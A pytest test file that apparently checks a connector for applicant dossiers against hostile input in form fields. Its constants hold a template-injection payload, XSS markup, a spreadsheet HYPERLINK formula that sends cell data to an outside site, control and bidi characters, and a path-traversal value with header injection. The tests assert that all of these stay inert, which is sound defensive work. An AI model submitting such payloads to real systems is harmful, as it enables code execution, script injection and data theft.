"""An applicant who types anything at all: it is data everywhere, and nothing else."""

from __future__ import annotations

import unicodedata
from zipfile import ZipFile

import openpyxl
import pytest

from connector.sandbox import scenario
from connector.sandbox.monde import CAS
from connector.sandbox.world import Fichier

MODELE = "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
HTML = '<script>document.title="pris"</script><img src=x onerror=alert(1)>'
FORMULE = '=HYPERLINK("http://exemple.fr/?"&A1,"cliquez")'
BIDI = "Mart\u202ein\u2066\u200b\u0000\u001b[31m"
CHEMIN = "../../../../etc/passwd\r\nX-Injecte: oui"
NOMME = Fichier.de(CHEMIN, b"%PDF-1.4 essai")
LONG = "é" * 1_000_000

SAISIES = {
    "Nom du candidat": FORMULE,
    "Prénom du candidat": HTML,
    "CHU partenaire": MODELE,
    "N° RPPS": BIDI,
    "Motivation de la modulation des quotités": LONG,
}


@pytest.fixture
def hostile(banc):
    """A lacking dossier and a complete one in which everything that can be typed is hostile, read and written to."""
    for name in ("sans_cv", "complet"):
        scenario.usager_corrige(banc.world, CAS[name], SAISIES)
    scenario.usager_corrige(banc.world, CAS["complet"], {"Curriculum vitae du candidat": [NOMME]})
    banc.run("sync")
    banc.run("sync")
    return banc


def ecrits(banc):
    """All that we wrote in DS: messages, and annotations of the two dossiers."""
    texts = [body for name in ("sans_cv", "complet") for body in banc.messages(CAS[name])]
    for name in ("sans_cv", "complet"):
        texts += [str(banc.annotation(CAS[name], label)) for label in ("Synthèse", "Points à vérifier", "Pièces")]
    return texts


def test_what_is_typed_is_never_run_as_a_template_and_never_spoils_the_others(hostile):
    assert all("1337" not in text and "subclasses" not in text for text in ecrits(hostile))
    assert len(hostile.messages(CAS["sans_cv"])) == 1
    assert len(hostile.messages(CAS["sans_convention"])) == 1


def test_no_control_nor_direction_character_reaches_ds_nor_the_terminal(hostile):
    shown = [hostile.run("explain", str(CAS[n])).stdout for n in ("sans_cv", "complet")]
    shown += [hostile.run("plan", str(CAS["sans_cv"])).stdout, hostile.run("status").stdout, *ecrits(hostile)]
    for text in shown:
        assert {c for c in text if unicodedata.category(c) in {"Cc", "Cf"}} <= {"\n", "\t"}


def test_a_megabyte_in_an_answer_is_cut_where_it_is_told(hostile):
    assert all(len(text) < 20_000 for text in ecrits(hostile))


def test_the_bilan_shows_markup_as_text_and_runs_nothing(hostile, tmp_path):
    page = tmp_path / "bilan.html"
    hostile.run("report", "--sortie", str(page))
    text = page.read_text(encoding="utf-8")
    assert "<script>document" not in text
    assert "<img src=x" not in text


def test_no_cell_of_the_jury_s_list_is_a_formula(hostile, tmp_path):
    fichier = tmp_path / "jury.xlsx"
    hostile.run("report", "--commission", "--sortie", str(fichier))
    book = openpyxl.load_workbook(fichier)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any(isinstance(cell.value, str) and "HYPERLINK" in cell.value for cell in cells)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    with ZipFile(fichier) as archive:
        assert not [n for n in archive.namelist() if b"<f>" in archive.read(n)]


def test_no_file_is_named_by_what_an_applicant_typed(hostile, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "copies").mkdir(mode=0o700)
    for commande in (
        ("report", "--sortie", "bilan.html"),
        ("report", "--commission", "--sortie", "jury.xlsx"),
        ("export-person", str(CAS["complet"]), "--sortie", "personne.json"),
        ("backup", "copies"),
    ):
        hostile.run(*commande)
    assert {f.name for f in tmp_path.iterdir()} == {"bilan.html", "jury.xlsx", "personne.json", "copies", "demo"}
    assert all(f.name.startswith(("demo-", "demo.", "config", "zonage", "qpv", "jeton")) for f in _dessous(tmp_path))


def _dessous(dossier):
    return [f for sous in ("copies", "demo") for f in (dossier / sous).rglob("*")]
